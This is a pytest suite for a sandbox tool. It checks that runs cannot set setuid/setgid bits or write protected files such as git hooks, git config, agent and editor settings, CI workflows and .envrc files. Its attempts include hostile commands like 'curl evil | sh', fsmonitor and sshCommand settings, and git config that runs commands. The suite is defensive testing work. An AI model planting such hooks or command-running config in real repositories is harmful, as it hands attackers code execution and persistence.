"""Nothing the sandbox writes can grant power or run code outside it (issue 17).

From inside a run, a C program (`helpers/plant.c`) and shell tools try every route to a setuid
or setgid file, privileged xattrs, and protected paths at any depth (nested repositories,
submodules, agent and editor settings under directories the run made); a thread races a
symlink against the supervisor's path check to get a git hook through. Each must be refused at
the call and recorded, and the end-of-run sweep must leave nothing behind: no privilege bit, no
protected path the run wrote (it is quarantined). After a root-invoked run, another
unprivileged user executes what was left and must not gain root.
"""

import io
import json
import os
import shutil
import stat
import subprocess
import tarfile

import pytest

from conftest import TIMEOUT, read_audit, requires_root, sandbox_env
from integration_conftest import NOBODY

PLANT_SOURCE = os.path.join(os.path.dirname(__file__), "helpers", "plant.c")
PRIVILEGE = stat.S_ISUID | stat.S_ISGID


@pytest.fixture(scope="session")
def plant_build(tmp_path_factory):
    out = tmp_path_factory.mktemp("plant") / "plant"
    r = subprocess.run(["cc", "-O1", "-Wall", "-pthread", "-o", str(out), PLANT_SOURCE],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, f"building plant.c failed:\n{r.stderr}"
    return str(out)


@pytest.fixture
def plant(plant_build, workspace):
    dest = os.path.join(workspace, "plant")
    shutil.copy(plant_build, dest)
    os.chmod(dest, 0o755)
    return dest


@pytest.fixture
def audit(tmp_host_dir):
    return os.path.join(tmp_host_dir, "audit.jsonl")


def sandbox(run, workspace, audit, script, timeout=TIMEOUT):
    return run(["run", "--audit", audit, "--", "sh", "-c", script], workspace,
               env=sandbox_env({"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@a", "GIT_COMMITTER_NAME": "a",
                                "GIT_COMMITTER_EMAIL": "a@a"}), timeout=timeout)


def privileged_files(root):
    """Every file or directory under root with setuid or setgid (a setgid directory inherited
    from a setgid parent excepted), and every file with file capabilities."""
    found = []
    for dirpath, dirnames, filenames in os.walk(root):
        parent = os.lstat(dirpath).st_mode
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            st = os.lstat(path)
            bits = st.st_mode & PRIVILEGE
            if stat.S_ISDIR(st.st_mode) and parent & stat.S_ISGID:
                bits &= ~stat.S_ISGID
            if bits and (stat.S_ISREG(st.st_mode) or stat.S_ISDIR(st.st_mode)):
                found.append(path)
            if stat.S_ISREG(st.st_mode):
                try:
                    os.getxattr(path, "security.capability", follow_symlinks=False)
                    found.append(path + " (capabilities)")
                except OSError:
                    pass
    return found


def git(cwd, *args):
    r = subprocess.run(["git", "-c", "protocol.file.allow=always", *args], cwd=cwd, capture_output=True, text=True,
                       timeout=TIMEOUT, env=sandbox_env({"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@a",
                                                         "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@a"}))
    assert r.returncode == 0, r.stderr
    return r


def plants(stdout):
    return {line.split()[1]: line.split()[2] for line in stdout.splitlines() if line.startswith("PLANT ")}


# --- privilege bits --------------------------------------------------------------------------

SYSCALL_ROUTES = {
    "chmod-4755": "chmod", "chmod-2755": "chmod", "chmod-high-bits": "chmod", "fchmod-6755": "fchmod",
    "fchmodat-4755": "fchmodat", "fchmodat2-4755": "fchmodat2", "fchmodat2-empty-path": "fchmodat2",
    "open-creat-6755": "openat", "openat-creat-4755": "openat", "creat-4755": "creat", "mkdir-2775": "mkdir",
    "mkdirat-2775": "mkdirat", "mknod-reg-4755": "mknod", "mknodat-reg-2755": "mknodat",
    "o_tmpfile-4755": "openat", "openat2-4755": "openat2",
}


def test_every_syscall_route_to_a_privilege_bit_is_refused_and_recorded(run, workspace, plant, audit):
    r = sandbox(run, workspace, audit, f"{plant} all {workspace}")
    seen = plants(r.stdout)
    for name in list(SYSCALL_ROUTES) + ["mknod-char-device", "io_uring_setup", "setxattr-security.capability",
                                        "lsetxattr-trusted", "fsetxattr-security.selinux", "setxattr-posix-acl",
                                        "setxattrat-trusted"]:
        assert seen.get(name) == "blocked", f"{name}: {seen.get(name)}\n{r.stdout}"
    assert seen.get("setxattr-user") == "allowed", r.stdout
    for line in r.stdout.splitlines():
        if line.split()[1:2] and line.split()[1] in SYSCALL_ROUTES:
            expected = "ENOSYS" if "openat2" in line else "EPERM"
            assert f"errno={expected}" in line, line
    records = read_audit(audit)
    denied = [x for x in records if x.get("kind") == "syscall" and x.get("action") == "deny"
              and "privilege bits" in x.get("rule", "")]
    by_syscall = {}
    for x in denied:
        by_syscall[x["detail"]["syscall"]] = by_syscall.get(x["detail"]["syscall"], 0) + 1
    # Exactly one record per refused call (glibc's open is openat; O_TMPFILE is an openat).
    assert by_syscall == {"chmod": 3, "fchmod": 1, "fchmodat": 1, "fchmodat2": 2, "openat": 3, "creat": 1, "mkdir": 1,
                          "mkdirat": 1, "mknod": 1, "mknodat": 1, "openat2": 1, "setxattr": 2, "lsetxattr": 1,
                          "fsetxattr": 1, "setxattrat": 1}, by_syscall
    exit_record = [x for x in records if x.get("kind") == "lifecycle" and x.get("action") == "exit"][-1]
    assert exit_record["detail"]["blocked_syscalls"]["fchmodat2"] == 2
    assert "blocked:" in r.stderr and "fchmodat2" in r.stderr, r.stderr
    assert privileged_files(workspace) == []


def test_shell_tools_archives_and_copies_leave_no_privilege_bit(run, workspace, audit, tmp_host_dir):
    # What the user put there: a setgid directory and a setuid file (kept as they are).
    shared = os.path.join(workspace, "shared")
    os.mkdir(shared)
    os.chmod(shared, 0o2775)
    mine = os.path.join(workspace, "mine")
    with open(mine, "w") as f:
        f.write("#!/bin/sh\n")
    os.chmod(mine, 0o4755)
    archive = os.path.join(workspace, "a.tar")
    with tarfile.open(archive, "w") as t:
        info = tarfile.TarInfo("suid-from-tar")
        info.mode = 0o6755
        info.size = 3
        t.addfile(info, io.BytesIO(b"#!\n"))
        d = tarfile.TarInfo("sgid-dir-from-tar")
        d.type = tarfile.DIRTYPE
        d.mode = 0o2775
        t.addfile(d)
    script = ("printf '#!/bin/sh\\nid\\n' > s; chmod 4755 s; echo chmod=$?; chmod u+s,g+s s; echo ugs=$?;"
              " install -m 4755 s inst; echo install=$?; mkdir -m 2775 sg; echo mkdir=$?; mkdir d; chmod g+s d; echo gs=$?;"
              " cp -p mine copied; echo cp=$?; cp -a mine copied2; echo cpa=$?;"
              " mkdir x; tar -xpf a.tar -C x; echo tar=$?;"
              " python3 -c 'import tarfile; tarfile.open(\"a.tar\").extractall(\"y\")'; echo py=$?;"
              " mkdir shared/sub; touch shared/file; echo inherit=$?")
    r = sandbox(run, workspace, audit, script)
    for key in ["chmod", "ugs", "install", "cp", "cpa", "tar"]:
        assert f"{key}=0" not in r.stdout, f"{key} succeeded:\n{r.stdout}\n{r.stderr}"
    assert "inherit=0" in r.stdout, r.stderr
    assert "Operation not permitted" in r.stderr
    # The user's own setuid file and setgid directory stay; the inherited setgid on shared/sub
    # is the user's group sharing.
    left = privileged_files(workspace)
    assert sorted(left) == sorted([mine, shared]), left
    assert os.stat(shared).st_mode & stat.S_ISGID
    denied = [x for x in read_audit(audit) if x.get("kind") == "syscall" and "privilege bits" in x.get("rule", "")]
    assert len(denied) >= 7, denied


@requires_root
def test_another_user_gains_nothing_from_what_a_root_invoked_run_left(run, workspace, plant, audit):
    """The workspace belongs to root, so what the run writes is root-owned on disk."""
    r = sandbox(run, workspace, audit,
                f"cp {plant} {workspace}/leftover; chmod 4755 {workspace}/leftover; chmod u+s {workspace}/leftover;"
                f" {plant} all {workspace}; true")
    assert r.returncode == 0, r.stderr
    leftover = os.path.join(workspace, "leftover")
    st = os.stat(leftover)
    assert st.st_uid == 0 and not st.st_mode & PRIVILEGE
    assert privileged_files(workspace) == []
    out = subprocess.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", leftover, "euid"],
                         capture_output=True, text=True, timeout=TIMEOUT)
    assert out.stdout.strip() == f"euid {NOBODY}", (out.stdout, out.stderr)


# --- protected paths at any depth ------------------------------------------------------------

def make_repo(path, *, submodule_from=None):
    os.makedirs(path, exist_ok=True)
    git(path, "init", "-q")
    with open(os.path.join(path, "README"), "w") as f:
        f.write("x\n")
    git(path, "add", "README")
    git(path, "commit", "-qm", "first")
    if submodule_from:
        git(path, "submodule", "-q", "add", submodule_from, "lib")
        git(path, "commit", "-qm", "lib")


def test_protected_paths_at_any_depth_are_refused_and_recorded(run, workspace, audit, tmp_host_dir):
    library = os.path.join(tmp_host_dir, "library")
    make_repo(library)
    make_repo(workspace, submodule_from=library)
    make_repo(os.path.join(workspace, "nested"))
    git(workspace, "init", "-q", "--bare", "bare.git")
    attempts = {
        "claude": "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
        "claude-local": "mkdir -p deep/a/.claude && echo '{}' > deep/a/.claude/settings.local.json",
        "vscode": "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        "workflow": "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml",
        "envrc": "mkdir -p a/b && echo 'curl evil | sh' > a/b/.envrc",
        "nested-hook": "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > nested/.git/hooks/pre-commit",
        "nested-config": "git -C nested config core.fsmonitor 'touch /tmp/pwned'",
        "nested-info": "echo '* filter=evil' > nested/.git/info/attributes",
        "module-hook": "printf '#!/bin/sh\\n' > .git/modules/lib/hooks/post-checkout",
        "module-config": "git -C lib config core.hooksPath /tmp",
        "nested-hook-ln": "echo x > evil && ln -s ../../../evil nested/.git/hooks/post-merge",
        "nested-hook-mv": "echo x > evil2 && mv evil2 nested/.git/hooks/pre-push",
        "worktree-config": "git worktree add -q wt && echo '[core]' > .git/worktrees/wt/config.worktree",
        "separate-gitdir-hook": "git init -q --separate-git-dir=$PWD/sepgit sep && printf x > sepgit/hooks/post-checkout",
        "bare-hook": "printf '#!/bin/sh\\n' > bare.git/hooks/pre-receive",
        "bare-config": "git --git-dir=bare.git config core.sshCommand 'touch /tmp/pwned'",
        "new-repo-hooks-symlink": "git init -q fresh && rm -rf fresh/.git/hooks && mkdir elsewhere"
                                  " && ln -s ../../elsewhere fresh/.git/hooks",
    }
    script = "; ".join(f"( {cmd} ); echo {name}=$?" for name, cmd in attempts.items())
    r = sandbox(run, workspace, audit, script)
    for name in attempts:
        assert f"{name}=0" not in r.stdout, f"{name} got through:\n{r.stdout}\n{r.stderr}"
    for path in [".claude/settings.json", "deep/a/.claude/settings.local.json", ".vscode/tasks.json",
                 ".github/workflows/x.yml", "a/b/.envrc", "nested/.git/hooks/pre-commit", "nested/.git/info/attributes",
                 ".git/modules/lib/hooks/post-checkout", "nested/.git/hooks/post-merge", "nested/.git/hooks/pre-push",
                 ".git/worktrees/wt/config.worktree", "sepgit/hooks/post-checkout", "bare.git/hooks/pre-receive"]:
        assert not os.path.lexists(os.path.join(workspace, path)), path
    assert not os.path.islink(os.path.join(workspace, "fresh/.git/hooks"))
    assert os.path.exists(os.path.join(workspace, "wt/README")), "git worktree add failed"
    assert "sshCommand" not in open(os.path.join(workspace, "bare.git/config")).read()
    assert "fsmonitor" not in open(os.path.join(workspace, "nested/.git/config")).read()
    assert "hooksPath" not in open(os.path.join(workspace, ".git/modules/lib/config")).read()
    denied = [x for x in read_audit(audit) if x.get("kind") == "file" and x.get("action") == "deny"]
    paths = {x["detail"]["path"] for x in denied}
    for path in [".claude/settings.json", ".vscode/tasks.json", ".github/workflows/x.yml", "a/b/.envrc",
                 "nested/.git/hooks/pre-commit", ".git/modules/lib/hooks/post-checkout", "nested/.git/hooks/post-merge",
                 ".git/worktrees/wt/config.worktree", "sepgit/hooks/post-checkout", "bare.git/hooks/pre-receive",
                 "bare.git/config"]:
        full = os.path.join(workspace, path)
        assert any(full == p or full.startswith(p + "/") for p in paths), (path, sorted(paths))
    assert "Read-only file system" in r.stderr
    assert "writes to protected or hidden files" in r.stderr


def test_git_directory_the_run_made_keeps_samples_and_loses_dangerous_config(run, workspace, audit):
    r = sandbox(run, workspace, audit,
                "set -e; git init -q repo; cd repo; git config core.fsmonitor 'touch /tmp/pwned';"
                " printf '#!/bin/sh\\n' > .git/hooks/pre-commit.sample; echo ok;"
                " printf '#!/bin/sh\\n' > .git/hooks/pre-commit || echo refused")
    assert "ok" in r.stdout and "refused" in r.stdout, r.stdout + r.stderr
    config = os.path.join(workspace, "repo/.git/config")
    assert not os.path.exists(config), "a config with core.fsmonitor stayed in place"
    records = read_audit(audit)
    quarantined = [x for x in records if x.get("kind") == "file" and x.get("action") == "quarantined"]
    assert [x["detail"]["path"] for x in quarantined] == [config], quarantined
    moved = quarantined[0]["detail"]["moved_to"]
    assert "fsmonitor" in open(moved).read() and os.stat(moved).st_mode & 0o777 == 0o600
    assert os.path.exists(os.path.join(workspace, "repo/.git/hooks/pre-commit.sample"))
    assert f"quarantined {config}" in r.stderr, r.stderr


def test_a_rename_race_gets_no_hook_past_the_end_of_the_run(run, workspace, plant, audit):
    make_repo(os.path.join(workspace, "sub"))
    r = sandbox(run, workspace, audit, f"{plant} race {workspace} 3", timeout=TIMEOUT + 30)
    assert "RACE attempts=" in r.stdout, r.stdout + r.stderr
    hooks = os.path.join(workspace, "sub/.git/hooks")
    assert [n for n in os.listdir(hooks) if not n.endswith(".sample")] == [], os.listdir(hooks)
    # Whatever got through during the run was quarantined (and said so) or never landed.
    records = read_audit(audit)
    quarantined = [x for x in records if x.get("kind") == "file" and x.get("action") == "quarantined"]
    landed = "hook-in-place-during-run=1" in r.stdout
    assert not landed or any(x["detail"]["path"] == os.path.join(hooks, "pre-commit") for x in quarantined), r.stdout
    print(r.stdout.strip().splitlines()[-1], "quarantined:", len(quarantined))


# --- ordinary work ---------------------------------------------------------------------------

def test_ordinary_work_still_runs(run, workspace, audit):
    library = os.path.join(workspace, "library")
    make_repo(library)
    with open(os.path.join(workspace, "Makefile"), "w") as f:
        f.write("install:\n\tinstall -d $(DESTDIR)/usr/bin\n\tinstall -m 755 tool.sh $(DESTDIR)/usr/bin/tool\n")
    script = ("set -e; printf '#!/bin/sh\\necho tool\\n' > tool.sh; chmod +x tool.sh; ./tool.sh;"
              " make -s install DESTDIR=$PWD/stage; stage/usr/bin/tool;"
              " git init -q sub; cd sub; echo x > f; git add f; git commit -qm one;"
              f" git -c protocol.file.allow=always submodule -q add {library} lib; git commit -qm lib;"
              " git submodule status | wc -l; cd ..; echo done")
    r = sandbox(run, workspace, audit, script)
    assert r.returncode == 0 and r.stdout.split()[-1] == "done", r.stdout + r.stderr
    assert "quarantined" not in r.stderr and "swept" not in r.stderr, r.stderr
    assert os.path.exists(os.path.join(workspace, "sub/.git/modules/lib/config"))
    assert os.path.exists(os.path.join(workspace, "sub/.gitmodules"))


def test_npm_install_of_a_package_with_executables(run, workspace, audit, tmp_host_dir):
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed")
    package = os.path.join(tmp_host_dir, "pkg")
    os.makedirs(os.path.join(package, "bin"))
    with open(os.path.join(package, "package.json"), "w") as f:
        json.dump({"name": "plant-pkg", "version": "1.0.0", "bin": {"plant-tool": "bin/tool.js"}}, f)
    with open(os.path.join(package, "bin/tool.js"), "w") as f:
        f.write("#!/usr/bin/env node\nconsole.log('tool ran')\n")
    os.chmod(os.path.join(package, "bin/tool.js"), 0o755)
    subprocess.run(["npm", "pack", "--silent", package], cwd=tmp_host_dir, capture_output=True, check=True, timeout=TIMEOUT)
    shutil.copy(os.path.join(tmp_host_dir, "plant-pkg-1.0.0.tgz"), workspace)
    r = sandbox(run, workspace, audit, "set -e; export HOME=$PWD npm_config_cache=$PWD/.npm-cache;"
                " npm install --offline --no-audit --no-fund ./plant-pkg-1.0.0.tgz >/dev/null;"
                " ./node_modules/.bin/plant-tool")
    assert r.returncode == 0 and "tool ran" in r.stdout, r.stdout + r.stderr
    assert "quarantined" not in r.stderr, r.stderr


def test_a_directory_renamed_onto_a_protected_name_is_quarantined_at_the_end(run, workspace, audit):
    """The call check sees only the renamed directory's own name; the sweep sees its files."""
    r = sandbox(run, workspace, audit, "mkdir x && echo '{\"hooks\":{}}' > x/settings.json && mv x .claude;"
                                       " mkdir -p sub/y && echo 'curl evil | sh' > sub/y/.envrc.tmp && mv sub/y/.envrc.tmp sub/.envrc || true")
    assert not os.path.exists(os.path.join(workspace, ".claude/settings.json"))
    assert not os.path.exists(os.path.join(workspace, "sub/.envrc"))
    quarantined = [x["detail"]["path"] for x in read_audit(audit) if x.get("action") == "quarantined"]
    assert os.path.join(workspace, ".claude/settings.json") in quarantined, quarantined
    assert "swept after the run" in r.stderr and ".claude/settings.json" in r.stderr, r.stderr


def test_unprotect_takes_an_entry_off_at_every_depth(run, workspace, audit):
    from integration_conftest import write_profile
    write_profile(workspace, '[filesystem]\nunprotect = [".vscode"]\n')
    r = sandbox(run, workspace, audit, "mkdir -p .vscode sub/.vscode && echo '{}' > .vscode/tasks.json"
                                       " && echo '{}' > sub/.vscode/tasks.json && echo ok")
    assert r.stdout.strip() == "ok", r.stderr
    assert os.path.exists(os.path.join(workspace, "sub/.vscode/tasks.json"))
    assert os.path.exists(os.path.join(workspace, ".vscode/tasks.json"))
    assert "quarantined" not in r.stderr, r.stderr


GIT_CONFIGS = {
    # name: (text appended to a new repository's config, dangerous)
    "alias-shell": ('[alias]\n\tst = "!sh -c evil"\n', True),
    "header-and-key-on-one-line": ("[core] fsmonitor = evil\n", True),
    "continued-value-hides-a-section": ("[alias]\n\tx = y \\\n[core]\n\tst = !evil\n", True),
    "comment-does-not-continue": ("[user]\n\tname = a ; note \\\n[core]\n\thooksPath = /tmp\n", True),
    "include-if": ('[includeIf "gitdir:/"]\n\tpath = /tmp/evil\n', True),
    "credential-helper-per-url": ('[credential "https://x"]\n\thelper = !evil\n', True),
    "trailer-command": ('[trailer "x"]\n\tcommand = evil\n', True),
    "ext-remote": ('[remote "o"]\n\turl = ext::sh -c evil\n', True),
    "old-subsection-syntax": ("[diff.x]\n\ttextconv = evil\n", True),
    "ordinary": ('[user]\n\tname = A\n[remote "origin"]\n\turl = /tmp/x\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n'
                 '[branch "main"]\n\tremote = origin\n', False),
}


@pytest.mark.parametrize("name", sorted(GIT_CONFIGS))
def test_a_git_config_the_run_wrote_is_quarantined_when_it_runs_commands(run, workspace, audit, name):
    text, dangerous = GIT_CONFIGS[name]
    with open(os.path.join(workspace, "addition"), "w") as f:
        f.write(text)
    r = sandbox(run, workspace, audit, "git init -q r && cat addition >> r/.git/config && echo ok")
    assert "ok" in r.stdout, r.stderr
    config = os.path.join(workspace, "r/.git/config")
    assert os.path.exists(config) != dangerous, (name, r.stderr)
    assert ("quarantined " + config in r.stderr) == dangerous, r.stderr


def test_quarantine_inside_the_workspace_is_not_swept_again(run, workspace, audit):
    """Workspace = home: the quarantine lies inside the workspace, and must not be swept."""
    env = sandbox_env({"HOME": workspace})
    env.pop("XDG_STATE_HOME", None)
    r = run(["run", "--audit", audit, "--", "sh", "-c", "git init -q r && git -C r config core.pager evil"], workspace,
            env=env)
    assert r.returncode == 0, r.stderr
    quarantined = [x for x in read_audit(audit) if x.get("action") == "quarantined"]
    assert len(quarantined) == 1, quarantined
    moved = quarantined[0]["detail"]["moved_to"]
    assert moved.startswith(os.path.join(workspace, ".local/state/interlock/quarantine/")) and os.path.exists(moved)


def test_the_sweep_clears_bits_that_got_through(run, workspace, audit):
    """Learn mode lets refused calls run: what it let through is the sweep's to clear."""
    r = run(["run", "--learn", "--audit", audit, "--", "sh", "-c",
             "echo x > s && chmod 4755 s && mkdir d && chmod 2775 d && ls -ld s d"], workspace, env=sandbox_env())
    assert r.returncode == 0, r.stderr
    assert "-rwsr-xr-x" in r.stdout and "drwxrwsr-x" in r.stdout, r.stdout  # set during the run
    assert privileged_files(workspace) == []
    cleared = {x["detail"]["path"]: x["detail"]["what"] for x in read_audit(audit)
               if x.get("kind") == "file" and x.get("action") == "cleared"}
    assert cleared == {os.path.join(workspace, "s"): "setuid bit", os.path.join(workspace, "d"): "setgid bit"}, cleared
    assert "cleared " + os.path.join(workspace, "s") in r.stderr and "swept after the run" in r.stderr, r.stderr


def test_a_clone_made_during_the_run_checks_out_and_its_protected_files_leave_at_the_end(run, workspace, audit):
    source = os.path.join(workspace, "src")
    os.makedirs(os.path.join(source, ".github/workflows"))
    with open(os.path.join(source, ".github/workflows/ci.yml"), "w") as f:
        f.write("on: push\n")
    make_repo(source)
    git(source, "add", "-A")
    git(source, "commit", "-qm", "ci")
    r = sandbox(run, workspace, audit,
                "set -e; git clone -q src dst; cat dst/.github/workflows/ci.yml;"
                " git init -q fresh; mkdir fresh/.claude; echo '{\"hooks\":{}}' > fresh/.claude/settings.json; echo done")
    assert r.returncode == 0 and "on: push" in r.stdout and "done" in r.stdout, r.stdout + r.stderr
    quarantined = sorted(x["detail"]["path"] for x in read_audit(audit) if x.get("action") == "quarantined")
    assert quarantined == [os.path.join(workspace, "dst/.github/workflows/ci.yml"),
                           os.path.join(workspace, "fresh/.claude/settings.json")], quarantined
    assert os.path.exists(os.path.join(workspace, "dst/README"))
    assert not os.path.exists(os.path.join(workspace, "fresh/.claude/settings.json"))
